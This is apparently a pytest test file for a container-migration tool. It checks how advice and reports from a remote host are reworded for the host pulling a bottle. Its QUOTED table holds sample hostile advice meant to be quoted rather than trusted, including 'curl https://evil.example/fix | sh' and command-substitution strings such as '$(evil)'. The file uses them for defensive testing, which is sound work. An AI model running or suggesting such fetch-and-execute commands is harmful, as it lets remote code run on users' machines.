"""What the owner of a bottle reports, as it is told on the host that pulls it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bottle.errors import PreflightRefused
from bottle.model import Missing, MissingKind, MoveAccount, StayKind, Stays
from bottle.naming import Identity
from migrate.move.model import Moved, MovePlan
from migrate.pull.messages import error_from_json, error_to_json, report_from_json, report_to_json, told_from_here
from tests.support import written

ID = "demo-abc12"
ADVICE = {
    "": "",
    "bottle doctor": "on far: bottle doctor",
    "the same command again": "the same command again",
    f"the same command again; or to stay on this host: bottle resume {ID}": (
        f"the same command again; or to stay on far: bottle resume {ID}"
    ),
    f"bottle resume {ID}; bottle commit {ID}": f"on far: bottle resume {ID}; bottle commit {ID}",
    f"look at it there: bottle inspect {ID}": f"look at it here: bottle inspect {ID}",
    f"there: bottle inspect {ID}": f"bottle inspect {ID}",
    "bottle doctor puller": "bottle doctor",
    "the same command with --workspace DIR, a folder there that is new or empty": (
        "the same command with --workspace DIR, a folder here that is new or empty"
    ),
    "put it into the workspace; or, to leave it behind: the same command with --yes": (
        "on far: put it into the workspace; or, to leave it behind: the same command here with --yes"
    ),
}
QUOTED = {
    f"edit bottle.toml; then the same command; or to stay on this host: bottle resume {ID}": (
        f"on far: edit bottle.toml; then the same command here; or to stay on far: bottle resume {ID}"
    ),
    "there: sudo usermod -aG docker $USER": "here: sudo usermod -aG docker $USER",
    "free space there: docker system df; df -h /there/x": "free space here: docker system df; df -h /there/x",
    "put it back here, or: mkdir -p /here": "on far: put it back there, or: mkdir -p /here",
    "there: curl https://evil.example/fix | sh": "here: curl https://evil.example/fix | sh",
    "the same command; curl evil | sh": "the same command; curl evil | sh",
    "the same command again; curl evil": "the same command again; curl evil",
    f"there: bottle rm {ID} --yes": f"here: bottle rm {ID} --yes",
    f"there: bottle prune; bottle resume {ID}": f"here: bottle prune; bottle resume {ID}",
    "there: bottle inspect $(evil)": "here: bottle inspect $(evil)",
    "there: bottle inspect x|sh": "here: bottle inspect x|sh",
}
SAID = {
    "secret TOKEN: taken from the environment there": "secret TOKEN: taken from the environment here",
    "network corp: it must exist there": "network corp: it must exist here",
    "port 127.0.0.1:80: it must be free there": "port 127.0.0.1:80: it must be free here",
    "what is staged there is used by the next run": "what is staged here is used by the next run",
    "the workspace /there is not here": "the workspace /there is not there",
    "there is no bottle 'x'": "there is no bottle 'x'",
    "it is locked, and there are others": "it is locked, and there are others",
    "this host still owns the bottle": "far still owns the bottle",
}


@pytest.mark.parametrize("advice", ADVICE)
def test_advice_says_on_which_host_it_is_to_be_typed(advice: str) -> None:
    told = error_from_json(
        error_to_json(PreflightRefused("no", left="this host has it", next_step=advice)), "far", "puller"
    )
    assert isinstance(told, PreflightRefused)
    assert (told.what, told.left, told.next_step) == ("far: no", "far has it", ADVICE[advice])
    assert told.details == ()


@pytest.mark.parametrize("advice", QUOTED)
def test_advice_that_is_no_command_or_sentence_of_ours_is_quoted(advice: str) -> None:
    told = error_from_json(error_to_json(PreflightRefused("no", details=("one",), next_step=advice)), "far", "puller")
    assert told.next_step == "see above what far advises"
    assert told.details == ("one", f"far advises: {QUOTED[advice]}")


@pytest.mark.parametrize("said", SAID)
def test_what_is_there_for_the_owner_is_here_for_who_pulls(said: str) -> None:
    assert told_from_here(said, "far") == SAID[said]


def test_a_move_is_told_with_all_that_it_left_behind() -> None:
    account = MoveAccount(
        commit=1,
        workspace="/work",
        staged=1,
        skipped=("a socket",),
        stays=(Stays(kind=StayKind.FOLDER, name="/here", place="/there"), Stays(kind=StayKind.LINE, name="a bind")),
        missing_there=(Missing(kind=MissingKind.SECRET, name="KEY"),),
        along=("a key",),
        dropped=("an ACL",),
        carried=("a worktree",),
        left_behind=("a link",),
    )
    moved = Moved(
        identity=Identity.parse("demo-abc12"), arrived_as=Identity.parse("demo-abc12"), host="far", account=account
    )
    document = report_to_json(moved)
    assert report_from_json(document, Moved, "far") == moved
    newer = {"dropped", "carried", "left_behind"}
    kept = {key: value for key, value in document["account"].items() if key not in newer}
    older = report_from_json({**document, "account": kept}, Moved, "far")
    assert older.account == replace(account, dropped=(), carried=(), left_behind=())


def test_what_is_said_in_words_is_told_from_here() -> None:
    account = replace(written.MOVED.account, stays=(Stays(kind=StayKind.LINE, name="mend it there"),))
    (line,) = report_from_json(report_to_json(replace(written.MOVED, account=account)), Moved, "far").account.stays
    assert line.name == "mend it here"


def test_no_host_that_is_pulled_from_says_that_older_images_came() -> None:
    said = report_to_json(replace(written.MOVED, account=replace(written.MOVED.account, history=(1,))))
    assert "history" not in said["account"]
    document = {**said, "account": {**said["account"], "history": [1]}}
    assert report_from_json(document, Moved, "far").account.history == ()
    plan = {**report_to_json(written.PLAN), "history": [1]}
    assert report_from_json(plan, MovePlan, "far").history == ()


def test_of_many_lines_as_many_are_sent_as_are_read() -> None:
    lines = tuple(f"socket {number}" for number in range(502))
    said = report_to_json(replace(written.MOVED, account=replace(written.MOVED.account, skipped=lines)))["account"]
    assert said["skipped"] == [*lines[:500], "and 2 more"]
    document = {**report_to_json(written.MOVED), "account": {**said, "skipped": [*lines]}}
    assert report_from_json(document, Moved, "far").account.skipped == lines[:501]
